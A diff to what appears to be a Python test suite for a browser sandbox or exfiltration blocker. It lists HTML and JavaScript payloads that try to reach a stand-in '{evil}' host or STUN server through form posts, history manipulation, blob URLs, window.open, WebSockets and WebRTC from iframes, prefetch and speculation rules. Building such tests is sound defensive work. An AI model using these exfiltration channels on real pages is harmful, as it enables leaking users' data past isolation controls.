@@ -59,8 +59,8 @@ _TO_PLACES = (
     Way("form_redirected", "<form method=post action=/to-evil><button id=go>Go</button></form>", tells=Barred.HOST),
     Way("page_of_its_own_making", _tries("location = URL.createObjectURL(new Blob(["
         "'<img src={evil}/x>'], {type: 'text/html'}))")),
-    Way("history", _tries("history.pushState(0, '', '/x'); history.back(); history.go(-9); location = '{evil}/x'"),
-        tells=Barred.HOST),
+    Way("history", _tries("try { history.pushState(0, '', '{evil}/x') } catch { history.pushState(0, '', '/x') }"
+        "; history.back()"), leaks=False),
 )  # fmt: skip
 _WINDOWS = (
     Way("window", _link("#", "onclick=\"window.open('{evil}/x')\""), tells=Barred.HOST),
@@ -110,13 +110,13 @@ _FETCHED = (
     Way("event_source", _tries("new EventSource('{evil}/x')")),
     Way("web_socket", _tries("new WebSocket('{evil}/x'.replace('http', 'ws'))")),
     Way("web_socket_of_a_frame", "<iframe srcdoc=''></iframe>" + _tries(
-        "new frames[0].WebSocket('{evil}/x'.replace('http', 'ws'))")),
+        "onload = () => new frames[0].WebSocket('{evil}/x'.replace('http', 'ws'))")),
     Way("web_socket_kept", _tries("new WebSocket.prototype.constructor('{evil}/x'.replace('http', 'ws'))")),
     Way("web_rtc", _tries("const p = new RTCPeerConnection({iceServers: [{urls: 'stun:{udp}'}]}); "
         "p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer())")),
-    Way("web_rtc_of_a_frame", "<iframe srcdoc=''></iframe>" + _tries("const p = new frames[0].RTCPeerConnection("
-        "{iceServers: [{urls: 'stun:{udp}'}]}); p.createDataChannel('x'); await p.setLocalDescription("
-        "await p.createOffer())")),
+    Way("web_rtc_of_a_frame", "<iframe srcdoc=''></iframe>" + _tries("onload = async () => { const p = new frames[0]"
+        ".RTCPeerConnection({iceServers: [{urls: 'stun:{udp}'}]}); p.createDataChannel('x'); "
+        "await p.setLocalDescription(await p.createOffer()) }")),
     Way("prefetch", "<link rel=prefetch href={evil}/x>"),
     Way("preload", "<link rel=preload as=image href={evil}/x>"),
     Way("speculation", '<script type=speculationrules>{"prefetch": [{"source": "list", "urls": ["{evil}/x"], '
